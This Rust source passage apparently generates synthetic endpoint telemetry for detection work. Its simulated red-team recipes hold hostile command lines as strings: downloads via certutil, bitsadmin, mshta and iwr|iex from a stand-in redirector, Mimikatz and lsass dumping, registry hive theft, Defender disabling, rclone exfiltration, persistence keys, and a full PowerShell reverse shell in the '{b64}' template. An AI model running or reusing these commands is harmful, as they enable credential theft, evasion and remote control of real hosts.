            st(1, Img::Pktmon, "PktMon.exe  stop"),
        ],
        &[],
    ),
    // Explorer refreshes its recent-items shortcuts.
    rc(
        Place::Ws,
        P::Explorer,
        Who::User,
        1.0,
        &[],
        &[file(
            0,
            "FileModified",
            "C:\\Users\\{sam}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{doc}.lnk",
            1_218,
        )],
    ),
    // ---- The red-team exercise ----------------------------------------------------------
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        30,
        &[
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass -NoExit -Command \"Import-Module C:\\AtomicRedTeam\\invoke-atomicredteam\\Invoke-AtomicRedTeam.psd1\"",
            ),
            st(
                1,
                Img::Cmd,
                "\"cmd.exe\" /c certutil -urlcache -split -f http://{rt}/payloads/rt-implant.exe C:\\Users\\Public\\rt-implant.exe",
            ),
            st(
                2,
                Img::Certutil,
                "certutil  -urlcache -split -f http://{rt}/payloads/rt-implant.exe C:\\Users\\Public\\rt-implant.exe",
            ),
            st(
                1,
                Img::Cmd,
                "\"cmd.exe\" /c bitsadmin /transfer qcjob /download /priority high http://{rt}/payloads/rt-implant.exe C:\\Users\\Public\\Downloads\\rt-implant.exe",
            ),
            st(
                4,
                Img::Bitsadmin,
                "bitsadmin  /transfer qcjob /download /priority high http://{rt}/payloads/rt-implant.exe C:\\Users\\Public\\Downloads\\rt-implant.exe",
            ),
            st(
                1,
                Img::Cmd,
                "\"cmd.exe\" /c mshta.exe javascript:a=(GetObject(\"script:http://{rt}/payloads/mshta.sct\")).Exec();close();",
            ),
            st(
                6,
                Img::Mshta,
                "mshta.exe  javascript:a=(GetObject(\"script:http://{rt}/payloads/mshta.sct\")).Exec();close();",
            ),
            st(
                1,
                Img::Regsvr32,
                "\"C:\\Windows\\system32\\regsvr32.exe\" /s /u /i:http://{rt}/payloads/RegSvr32.sct scrobj.dll",
            ),
            st(
                1,
                Img::Rundll32,
                "\"C:\\Windows\\system32\\rundll32.exe\" C:\\Users\\Public\\AtomicTest.dll,DllRegisterServer",
            ),
            st(
                9,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c whoami /priv",
            ),
            st(
                1,
                Img::Cmd,
                "\"cmd.exe\" /c wmic process call create \"cmd.exe /c whoami > C:\\Users\\Public\\wmi.txt\"",
            ),
            st(
                11,
                Img::Wmic,
                "wmic  process call create \"cmd.exe /c whoami > C:\\Users\\Public\\wmi.txt\"",
            ),
            st(
                1,
                Img::Cmd,
                "\"cmd.exe\" /c schtasks /create /tn \"AtomicTask\" /tr \"cmd.exe /c C:\\Users\\Public\\rt-implant.exe\" /sc once /st 23:59 /f",
            ),
            st(
                13,
                Img::Schtasks,
                "schtasks  /create /tn \"AtomicTask\" /tr \"cmd.exe /c C:\\Users\\Public\\rt-implant.exe\" /sc once /st 23:59 /f",
            ),
            st(
                1,
                Img::Cmd,
                "\"cmd.exe\" /c reg save HKLM\\SAM C:\\Users\\Public\\sam.save & reg save HKLM\\SYSTEM C:\\Users\\Public\\system.save & reg save HKLM\\SECURITY C:\\Users\\Public\\security.save",
            ),
            st(
                15,
                Img::Reg,
                "reg  save HKLM\\SAM C:\\Users\\Public\\sam.save",
            ),
            st(
                15,
                Img::Reg,
                "reg  save HKLM\\SYSTEM C:\\Users\\Public\\system.save",
            ),
            st(
                15,
                Img::Reg,
                "reg  save HKLM\\SECURITY C:\\Users\\Public\\security.save",
            ),
            st(
                7,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"iex (iwr http://{rt}/payloads/stage2.ps1 -UseBasicParsing)\"",
            ),
        ],
        &[
            file(
                3,
                "FileCreated",
                "C:\\Users\\Public\\rt-implant.exe",
                289_280,
            ),
            file(
                5,
                "FileCreated",
                "C:\\Users\\Public\\Downloads\\rt-implant.exe",
                289_280,
            ),
            file(16, "FileCreated", "C:\\Users\\Public\\sam.save", 57_344),
            file(
                17,
                "FileCreated",
                "C:\\Users\\Public\\system.save",
                17_825_792,
            ),
            file(
                18,
                "FileCreated",
                "C:\\Users\\Public\\security.save",
                32_768,
            ),
            load(7, Img::MscorlibNi),
            load(8, Img::AtomicDll),
            load(9, Img::AtomicDll),
            load(7, Img::Mscoree),
        ],
    ),
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        70,
        &[
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rt}/payloads/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command '\\\"privilege::debug\\\" \\\"sekurlsa::logonpasswords\\\" \\\"exit\\\"'\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -WindowStyle Hidden -Command \"try { Add-MpPreference -ExclusionPath 'C:\\Users\\Public','C:\\ProgramData\\AtomicTest'; Start-Process C:\\Users\\Public\\rt-implant.exe } catch { Write-Host $_ }\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ExecutionPolicy Bypass -Command \"Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -EncodedCommand {b64}",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -version 2 -nop -c \"Write-Host PSv2 downgrade test\"",
            ),
            st(
                0,
                Img::Procdump,
                "\"C:\\Tools\\SysinternalsSuite\\procdump64.exe\" -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp",
            ),
            st(
                0,
                Img::Rubeus,
                "\"C:\\Tools\\RedTeam\\Rubeus.exe\" kerberoast /outfile:C:\\Users\\Public\\roast.txt",
            ),
            st(
                0,
                Img::Rubeus,
                "\"C:\\Tools\\RedTeam\\Rubeus.exe\" asktgt /user:{sam} /rc4:{hex}{hex}{hex}{hex} /ptt",
            ),
            st(
                0,
                Img::SharpHound,
                "\"C:\\Tools\\RedTeam\\SharpHound.exe\" -c All --zipfilename contoso_bh.zip",
            ),
            st(
                0,
                Img::PsExec,
                "\"C:\\Tools\\SysinternalsSuite\\PsExec.exe\" \\\\{rtsrv} -accepteula -s cmd.exe /c hostname",
            ),
            st(
                0,
                Img::Rclone,
                "\"C:\\Tools\\RedTeam\\rclone.exe\" copy C:\\Users\\Public\\loot rt-s3:contoso-redteam-exfil --config C:\\Users\\{sam}\\AppData\\Roaming\\rclone\\rclone.conf --transfers 4",
            ),
            st(
                0,
                Img::Ssh,
                "\"C:\\Windows\\System32\\OpenSSH\\ssh.exe\" -R 8443:localhost:3389 -p 443 operator@{rt}",
            ),
            st(
                1,
                Img::Cmd,
                "\"C:\\Windows\\system32\\cmd.exe\" /c echo art > \\\\.\\pipe\\atomicpipe",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"$s=[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('VwByAGkAdABlAC0ASABvAHMAdAAgAGEAcgB0AA=='));iex $s\"",
            ),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -Command \"[System.Reflection.Assembly]::Load([byte[]](Get-Content C:\\Users\\Public\\AtomicTest.dll -Encoding Byte)) | Out-Null; whoami\"",
            ),
            st(15, Img::Whoami, "\"C:\\Windows\\system32\\whoami.exe\""),
            st(
                0,
                Img::Cmd,
                "\"cmd.exe\" /c powershell.exe  -command \"Set-MpPreference -EnableControlledFolderAccess Disabled\"",
            ),
            st(
                17,
                Img::PowerShell,
                "powershell.exe  -command \"Set-MpPreference -EnableControlledFolderAccess Disabled\"",
            ),
            st(2, Img::RtImplant, "C:\\Users\\Public\\rt-implant.exe"),
            st(
                0,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ep bypass -command \"get-content C:\\Users\\Public\\art-stage.txt | iex; remove-item C:\\Users\\Public\\art-stage.txt\"",
            ),
        ],
        &[
            load(1, Img::Vaultcli),
            load(1, Img::Samlib),
            load(6, Img::Dbghelp),
            load(6, Img::Dbgcore),
            file(6, "FileCreated", "C:\\Users\\Public\\lsass.dmp", 58_720_256),
            file(
                9,
                "FileCreated",
                "C:\\Users\\{sam}\\Documents\\20261101_contoso_bh.zip",
                1_887_232,
            ),
            file(
                11,
                "FileCreated",
                "C:\\Users\\{sam}\\AppData\\Roaming\\rclone\\rclone.conf",
                412,
            ),
        ],
    ),
    red(
        Place::RedTeam,
        P::Explorer,
        Who::User,
        110,
        &[
            st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
            st(1, Img::Whoami, "whoami  /groups"),
            st(1, Img::Net, "net  group \"Enterprise Admins\" /domain"),
            st(1, Img::Nltest, "nltest  /domain_trusts /all_trusts"),
            st(1, Img::Cmdkey, "cmdkey  /list"),
            st(
                1,
                Img::Findstr,
                "findstr  /si password *.xml *.ini *.txt *.config",
            ),
            st(1, Img::Cmd, "cmd.exe /c SYSTEMINFO & TASKLIST"),
            st(7, Img::Systeminfo, "SYSTEMINFO "),
            st(7, Img::Tasklist, "TASKLIST "),
            st(
                1,
                Img::Reg,
                "reg  add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\" /v UseLogonCredential /t REG_DWORD /d 1 /f",
            ),
            st(
                1,
                Img::Reg,
                "reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v AtomicRunKey /t REG_SZ /d \"powershell.exe -w hidden -nop -c iex (iwr http://{rt}/payloads/stage2.ps1 -UseBasicParsing)\" /f",
            ),
            st(
                1,
                Img::Reg,
                "reg  add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\" /v PortNumber /t REG_DWORD /d 3390 /f",
            ),
            st(
                1,
                Img::Netsh,
                "netsh  advfirewall firewall add rule name=\"Atomic RDP\" dir=in action=allow protocol=TCP localport=3390",
            ),
            st(
                1,
                Img::Sc,
                "sc  create AtomicSvc binPath= \"C:\\Users\\Public\\rt-implant.exe\" start= auto DisplayName= \"Atomic Test Service\"",
            ),
            st(1, Img::Net, "net  user art-test P@ssw0rd-Atomic1 /add"),
            st(1, Img::Net, "net  user art-test /delete"),
            st(
                1,
                Img::Wevtutil,
                "wevtutil.exe  cl Microsoft-Windows-PowerShell/Operational",
            ),
            st(
                1,
                Img::Odbcconf,
                "odbcconf.exe  /a {REGSVR C:\\Users\\Public\\AtomicTest.dll}",
            ),
            st(
                1,
                Img::InstallUtil,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\AtomicTest.dll",
            ),
            st(
                1,
                Img::MsBuild,
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Users\\Public\\AtomicTest.csproj",
            ),
            st(
                1,
                Img::Cmstp,
                "cmstp.exe  /s C:\\Users\\Public\\AtomicTest.inf",
            ),
            st(
                1,
                Img::Forfiles,
                "forfiles  /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
            ),
            st(
                1,
                Img::Pcalua,
                "pcalua.exe  -a C:\\Users\\Public\\rt-implant.exe",
            ),
            st(1, Img::Hh, "hh.exe  http://{rt}/payloads/Test.chm"),
            st(
                1,
                Img::Esentutl,
                "esentutl.exe  /y C:\\Users\\{sam}\\AppData\\Local\\Microsoft\\Windows\\WebCache\\WebCacheV01.dat /d C:\\Users\\Public\\wc.dat",
            ),
            st(
                1,
                Img::Msiexec,
                "msiexec.exe  /q /i http://{rt}/payloads/AtomicTest.msi",
            ),
            st(
                1,
                Img::Curl,
                "curl  -s -o C:\\Users\\Public\\rt-implant2.exe http://{rt}/payloads/rt-implant.exe",
            ),
            st(
                0,
                Img::Wscript,
                "\"C:\\Windows\\System32\\WScript.exe\" C:\\Users\\{sam}\\AppData\\Local\\Temp\\AtomicTest.js",
            ),
            st(
                28,
                Img::PowerShell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"iex (iwr http://{rt}/payloads/stage2.ps1 -UseBasicParsing)\"",
            ),
            st(1, Img::RtImplant, "C:\\Users\\Public\\rt-implant.exe"),
            st(
                30,
                Img::Cmd,
                "C:\\Windows\\system32\\cmd.exe /c hostname & whoami & ipconfig /all",
            ),
            st(
                1,
                Img::Reg,
                "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe\" /v Debugger /t REG_SZ /d \"C:\\Windows\\System32\\cmd.exe\" /f",
            ),
        ],
        &[
            reg(
                32,
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe",
                "Debugger",
                "String",
                "C:\\Windows\\System32\\cmd.exe",
            ),
            reg(
                0,
                "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
                "c",
                "String",
                "powershell -w hidden -nop -c \"iwr http://{rt}/payloads/clickfix.ps1 -UseBasicParsing | iex\"\\1",
            ),
            reg(
                10,
                "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest",
                "UseLogonCredential",
                "Dword",
                "1",
            ),
            reg(
                11,
                "{hkcu}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "AtomicRunKey",
                "String",
                "powershell.exe -w hidden -nop -c iex (iwr http://{rt}/payloads/stage2.ps1 -UseBasicParsing)",
            ),
            reg(
                12,
                "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server\\WinStations\\RDP-Tcp",
                "PortNumber",
                "Dword",
                "3390",
            ),
            reg(
                14,
                "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\AtomicSvc",
                "ImagePath",
                "ExpandString",
                "C:\\Users\\Public\\rt-implant.exe",
            ),
            file(
                0,
                "FileCreated",
                "C:\\Users\\{sam}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\AtomicTest.lnk",
                1_380,
            ),
            file(
                27,
                "FileCreated",
                "C:\\Users\\Public\\rt-implant2.exe",
                289_280,
            ),
            load(28, Img::MscorlibNi),
            load(28, Img::Mscoree),
        ],
    ),
    // Defender records the exclusions the red team added.
    red(
        Place::RedTeam,
        P::MsMpEng,
        Who::System,
        71,
        &[],
        &[
            reg(
                0,
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
                "C:\\Users\\Public",
                "Dword",
                "0",
            ),
            reg(
                0,
                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
                "C:\\ProgramData\\AtomicTest",
                "Dword",
                "0",
            ),
        ],
    ),
    // The red team's lateral-movement test: wmiexec-style commands on a server.
    red(
        Place::RedTarget,
        P::SvcDcom,
        Who::Admin,
        77,
        &[
            st(
                0,
                Img::WmiPrvSE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            ),
            st(
                1,
                Img::Cmd,
                "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__{ts}.{frac} 2>&1",
            ),
            st(
                1,
                Img::Cmd,
                "cmd.exe /Q /c ipconfig /all 1> \\\\127.0.0.1\\ADMIN$\\__{ts}.{frac} 2>&1",
            ),
            st(3, Img::Ipconfig, "ipconfig  /all"),
            st(
                1,
                Img::Cmd,
                "cmd.exe /Q /c systeminfo 1> \\\\127.0.0.1\\ADMIN$\\__{ts}.{frac} 2>&1",
            ),
        ],
        &[
            file(2, "FileCreated", "C:\\Windows\\__{ts}.{frac}", 58),
            file(3, "FileCreated", "C:\\Windows\\__{ts}.{frac}", 1_422),
        ],
    ),
    red(
        Place::RedTarget,
        P::Services,
        Who::System,
        72,
        &[
            st(0, Img::Psexesvc, "C:\\Windows\\PSEXESVC.exe"),
            st(1, Img::Cmd, "\"cmd.exe\" /c hostname"),
            st(2, Img::Hostname, "hostname "),
        ],
        &[
            file(0, "FileCreated", "C:\\Windows\\PSEXESVC.exe", 196_496),
            reg(
                0,
                "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC",
                "ImagePath",
                "ExpandString",
                "%SystemRoot%\\PSEXESVC.exe",
            ),
        ],
    ),
];

/// The red team's server (TEST-NET-1: the exercise's cloud redirector).
pub(crate) const RT_IP: &str = "192.0.2.80";

/// The exercise: operator's workstation and the day (office hours on the latest weekday
/// that workstation has a session), and the server moved to.
pub(crate) struct Exercise {
    pub(crate) ws: usize,
    pub(crate) target: usize,
    pub(crate) day: i64,
}

pub(crate) fn exercise(w: &World) -> Option<Exercise> {
    // The last IT workstation, the helpdesk machine only in a tiny tenant.
    let it = |d: &usize| w.device(*d).is_some_and(|x| x.dept == DEPT_IT);
    let helpdesk = w.workstations.get(1).copied();
    let ws = w
        .workstations
        .iter()
        .rev()
        .copied()
        .find(|d| it(d) && Some(*d) != helpdesk)
        .or(helpdesk.filter(it))?;
    let target = w
        .devices
        .iter()
        .position(|d| d.role == Role::App)
        .or_else(|| w.servers.last().copied())?;
    let first = w.start.div_euclid(DAY);
    let last = (w.now - 1).div_euclid(DAY);
    // The whole script runs within the session and before the window's end.
    let length = RECIPES
        .iter()
        .chain(crate::endpoint2::RECIPES)
        .map(|r| r.at_min)
        .max()
        .unwrap_or(0)
        * MIN
        + 15 * MIN;
    (first..=last).rev().find_map(|day| {
        let (s0, s1) = w.session(ws, day)?;
        let ok = weekday(day) < 5 && s0 >= w.start && s0 + length <= w.now && s1 > s0 + length;
        ok.then_some(Exercise { ws, target, day })
    })
}

/// The processes the red-team exercise starts on this device-day (for the network and
/// device-event rows of the same processes, `more.rs`).
pub(crate) fn red_team_procs(w: &World, ctx: &Ctx, dev: &Device) -> Vec<Proc> {
    let Some(ex) = exercise(w) else {
        return Vec::new();
    };
    if ctx.day != ex.day || (ctx.dev != ex.ws && ctx.dev != ex.target) {
        return Vec::new();
    }
    [
        (RECIPES, "activity"),
        (crate::endpoint2::RECIPES, "endpoint2"),
    ]
    .into_iter()
    .flat_map(|(recipes, stream)| {
        plan(w, ctx, dev, recipes, stream)
            .into_iter()
            .filter(|i| {
                recipes
                    .get(i.recipe)
                    .is_some_and(|r| matches!(r.place, Place::RedTeam | Place::RedTarget))
            })
            .flat_map(|i| i.procs.into_iter().map(|p| p.proc))
    })
    .collect()
}

/// One planned process.
struct Planned {
    proc: Proc,
}

/// One planned activity instance: its root, its processes, and its extra rows.
struct Instance {
    root: Proc,
    procs: Vec<Planned>,
    /// (time, recipe side index, expanded path/key, expanded data).
    side: Vec<(i64, usize, String, String)>,
    recipe: usize,
}

/// Everything a device does that day beyond the steady background.
fn plan(w: &World, ctx: &Ctx, dev: &Device, recipes: &[Recipe], stream: &str) -> Vec<Instance> {
    let mut r = Rng::derive(&[w.seed, fnv(stream), ctx.dev as u64, ctx.day as u64]);
    let ex = exercise(w);
    let user = ctx.user(w);
    let is_it = user.is_some_and(|u| u.dept == DEPT_IT);
    let is_eng = user.is_some_and(|u| u.dept == 4);
    let admins: Vec<usize> = w
        .users
        .iter()
        .enumerate()
        .filter(|(_, u)| u.kind == UserKind::Admin)
        .map(|(i, _)| i)
        .collect();
    let office_day = weekday(ctx.day) < 5;
    let mut out = Vec::new();
    for (ri, rec) in recipes.iter().enumerate() {
        let fits = match rec.place {
            Place::Ws => ctx.session.is_some(),
            Place::ItWs => ctx.session.is_some() && is_it,
            Place::EngWs => ctx.session.is_some() && is_eng,
            Place::AnyWs => !dev.is_server(),
            Place::Server => dev.is_server(),
            Place::Dc => dev.role == Role::Dc,
            Place::FileSrv => dev.role == Role::File,
            Place::Sql => dev.role == Role::Sql,
            Place::Web => matches!(dev.role, Role::Web | Role::App),
            Place::Any => true,
            Place::RedTeam => ex
                .as_ref()
                .is_some_and(|e| e.ws == ctx.dev && e.day == ctx.day),
            Place::RedTarget => ex
                .as_ref()
                .is_some_and(|e| e.target == ctx.dev && e.day == ctx.day),
        };
        // Draw the count whether or not it fits: the stream stays aligned across devices.
        let n = r.count(rec.rate);
        if !fits {
            continue;
        }
        let admin_work = rec.who == Who::Admin && dev.is_server();
        if admin_work && !office_day {
            continue;
        }
        for _ in 0..n {
            let day0 = ctx.day * DAY;
            let t = match rec.place {
                Place::RedTeam | Place::RedTarget => {
                    match ex.as_ref().and_then(|e| w.session(e.ws, ctx.day)) {
                        Some((s0, _)) => s0 + rec.at_min * MIN + r.range(0, 20 * SEC),
                        None => continue,
                    }
                }
                _ if admin_work => day0 + r.range(9 * HOUR, 17 * HOUR),
                _ if rec.who == Who::System || matches!(rec.who, Who::Svc(_)) => {
                    day0 + r.range(0, DAY - 10 * MIN)
                }
                _ => match ctx.session {
                    Some((s0, s1)) => s0 + r.range(2 * MIN, (s1 - s0 - 10 * MIN).max(3 * MIN)),
                    None => continue,
                },
            };
            let Some(root) = ctx.alive(rec.root, t).cloned() else {
                continue;
            };
            let acct = match rec.who {
                Who::User => match ctx.user {
                    Some(u) => Acct::User(u),
                    None => continue,
                },
                Who::Admin => {
                    if dev.is_server() {
                        let a = ex
                            .as_ref()
                            .filter(|_| rec.place == Place::RedTarget)
                            .and_then(|e| w.device(e.ws))
                            .and_then(|d| d.user)
                            .and_then(|u| w.user(u))
                            .and_then(|u| u.admin_account)
                            .or_else(|| admins.get(r.index(admins.len())).copied());
                        match a {
                            Some(a) => Acct::User(a),
                            None => continue,
                        }
                    } else {
                        match user.and_then(|u| u.admin_account).or(ctx.user) {
                            Some(a) => Acct::User(a),
                            None => continue,
                        }
                    }
                }
                Who::System => Acct::System,
                Who::Svc(name) => match w.users.iter().position(|u| u.sam == name) {
                    Some(i) => Acct::User(i),
                    None => continue,
                },
            };
            let vars = Vars::new(w, ctx, dev, ex.as_ref(), &mut r, t);
            let elevated = rec.who == Who::Admin || matches!(rec.who, Who::Svc(_));
            let (integrity, elevation, session) = match acct {
                Acct::User(_) if elevated => (
                    "High",
                    "TokenElevationTypeFull",
                    if dev.is_server() { 0 } else { 1 },
                ),
                Acct::User(_) => ("Medium", "TokenElevationTypeLimited", 1),
                _ => ("System", "TokenElevationTypeDefault", 0),
            };
            let logon_id = match acct {
                Acct::User(u) if Some(u) == ctx.user && !elevated => ctx.logon_id,
                Acct::User(u) => 0x20_0000 + (fnv(&format!("{u}/{}", ctx.day)) & 0xff_ffff) as i64,
                _ => root.logon_id,
            };
            let mut procs: Vec<Planned> = Vec::with_capacity(rec.steps.len());
            let mut tt = t;
            for step in rec.steps {
                tt += r.range(300_000_000, 4 * SEC);
                let parent = if step.up == 0 {
                    &root
                } else {
                    match procs.get(usize::from(step.up) - 1) {
                        Some(p) => &p.proc,
                        None => &root,
                    }
                };
                let mut cmd = String::new();
                expand(&mut cmd, step.cmd, &vars, &mut r);
                let p = Proc {
                    img: step.img,
                    pid: r.range(250, 12_000) * 4,
                    cmd,
                    created: tt,
                    acct,
                    integrity,
                    elevation,
                    logon_id,
                    session,
                    parent_img: parent.img,
                    parent_pid: parent.pid,
                    parent_created: parent.created,
                };
                procs.push(Planned { proc: p });
            }
            let mut side = Vec::with_capacity(rec.side.len());
            for (si, sd) in rec.side.iter().enumerate() {
                let (by, a, b) = match sd {
                    Side::File { by, path, .. } => (*by, *path, ""),
                    Side::Reg { by, key, data, .. } => (*by, *key, *data),
                    Side::Load { by, .. } => (*by, "", ""),
                };
                let base = if by == 0 {
                    t.max(root.created)
                } else {
                    procs.get(usize::from(by) - 1).map_or(t, |p| p.proc.created)
                };
                let ts = base + r.range(50_000_000, 2 * SEC);
                let (mut x, mut y) = (String::new(), String::new());
                expand(&mut x, a, &vars, &mut r);
                expand(&mut y, b, &vars, &mut r);
                side.push((ts, si, x, y));
            }
            // An activity is written whole or not at all (the window's edges).
            let last = procs
                .iter()
                .map(|p| p.proc.created)
                .chain(side.iter().map(|x| x.0))
                .max()
                .unwrap_or(t);
            if t < ctx.lo || last + 200_000_000 >= ctx.hi {
                continue;
            }
            out.push(Instance {
                root,
                procs,
                side,
                recipe: ri,
            });
        }
    }
    out
}

/// Values the templates use.
struct Vars<'w> {
    sam: &'w str,
    sid: &'w str,
    dept: &'static str,
    share: &'static str,
    fs: &'w str,
    srv: &'w str,
    peer: &'w str,
    peerws: &'w str,
    sqlsrv: &'w str,
    jump: &'w str,
    backupsrv: &'w str,
    rtsrv: &'w str,
    doc: &'w str,
    pid: i64,
    t: i64,
}

fn short(name: &str) -> &str {
    name.split('.').next().unwrap_or(name)
}

impl<'w> Vars<'w> {
    fn new(
        w: &'w World,
        ctx: &Ctx,
        dev: &'w Device,
        ex: Option<&Exercise>,
        r: &mut Rng,
        t: i64,
    ) -> Vars<'w> {
        let u = ctx.user(w);
        let dept = u
            .and_then(|u| crate::catalog::DEPTS.get(u.dept))
            .or_else(|| crate::catalog::DEPTS.get(dev.dept));
        let dev_name = |i: usize| w.device(i).map_or("srv-app-01", |d| short(&d.name));
        let srv = w
            .servers
            .get(r.index(w.servers.len()))
            .copied()
            .map_or("srv-dc-01", dev_name);
        let peerws = w
            .workstations
            .get(r.index(w.workstations.len()))
            .copied()
            .map_or("ws-it-002", dev_name);
        let peer = w
            .persons
            .get(r.index(w.persons.len()))
            .and_then(|&p| w.user(p))
            .map_or("user", |u| u.sam.as_str());
        let of_role = |role: Role| {
            w.devices
                .iter()
                .position(|d| d.role == role)
                .map_or("srv-app-01", dev_name)
        };
        Vars {
            sam: u.map_or("user", |u| u.sam.as_str()),
            sid: u.map_or("S-1-5-18", |u| u.sid.as_str()),
            dept: dept.map_or("IT", |d| d.share),
            share: dept.map_or("Public", |d| d.share),
            fs: dev_name(dev.file_server),
            srv,
            peer,
            peerws,
            sqlsrv: of_role(Role::Sql),
            jump: of_role(Role::App),
            backupsrv: w.servers.last().copied().map_or("srv-app-01", dev_name),
            rtsrv: ex.map_or("srv-app-01", |e| dev_name(e.target)),
            doc: u
                .and_then(|u| u.docs.get(r.index(u.docs.len())))
                .map_or("Document1.docx", |d| d.as_str()),
            pid: ctx.proc(P::Lsass).map_or(716, |p| p.pid),
            t,
        }
    }
}

/// Expands a template's `{name}` placeholders.
fn expand(out: &mut String, tpl: &str, v: &Vars, r: &mut Rng) {
    let mut rest = tpl;
    while let Some(i) = rest.find('{') {
        let (head, tail) = rest.split_at(i);
        out.push_str(head);
        let Some(j) = tail.find('}') else {
            out.push_str(tail);
            return;
        };
        let name = tail.get(1..j).unwrap_or("");
        let known = match name {
            "sam" => {
                out.push_str(v.sam);
                true
            }
            "sid" => {
                out.push_str(v.sid);
                true
            }
            "hkcu" => {
                let _ = write!(out, "{}", HKCU.replace("{sid}", v.sid));
                true
            }
            "dept" => {
                out.push_str(v.dept);
                true
            }
            "share" => {
                out.push_str(v.share);
                true
            }
            "fs" => {
                out.push_str(v.fs);
                true
            }
            "srv" => {
                out.push_str(v.srv);
                true
            }
            "peer" => {
                out.push_str(v.peer);
                true
            }
            "peerws" => {
                out.push_str(v.peerws);
                true
            }
            "sqlsrv" => {
                out.push_str(v.sqlsrv);
                true
            }
            "jump" => {
                out.push_str(v.jump);
                true
            }
            "backupsrv" => {
                out.push_str(v.backupsrv);
                true
            }
            "rtsrv" => {
                out.push_str(v.rtsrv);
                true
            }
            "doc" => {
                out.push_str(v.doc);
                true
            }
            "guid" => {
                out.push_str(&r.guid());
                true
            }
            "rt" => {
                out.push_str(RT_IP);
                true
            }
            "n" => {
                let _ = write!(out, "{}", 100 + r.below(900));
                true
            }
            "hex" => {
                r.hex_into(out, 8);
                true
            }
            "ts" => {
                let _ = write!(out, "{}", v.t / SEC);
                true
            }
            "frac" => {
                let _ = write!(out, "{}", r.below(10_000_000));
                true
            }
            "pid" => {
                let _ = write!(out, "{}", v.pid);
                true
            }
            "b64" => {
                let script = format!(
                    "$client = New-Object System.Net.Sockets.TCPClient('{RT_IP}',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()"
                );
                out.push_str(&powershell_encoded(&script));
                true
            }
            _ => false,
        };
        if known {
            rest = tail.get(j + 1..).unwrap_or("");
        } else {
            // Not a placeholder (a GUID, a PowerShell block): copy the brace.
            out.push('{');
            rest = tail.get(1..).unwrap_or("");
        }
    }
    out.push_str(rest);
}

/// Writes this device-day's planned activity rows of `table`.
pub(crate) fn generate(
    g: &mut Gen,
    s: &mut Sink,
    ctx: &Ctx,
    dev: &Device,
    table: DevTable,
    seq: &mut u64,
) {
    generate_with(g, s, ctx, dev, table, seq, RECIPES, "activity");
}

/// Writes this device-day's rows of `table` for the activities of `recipes`, planned from
/// the random stream named `stream`.
#[allow(clippy::too_many_arguments)]
pub(crate) fn generate_with(
    g: &mut Gen,
    s: &mut Sink,
    ctx: &Ctx,
    dev: &Device,
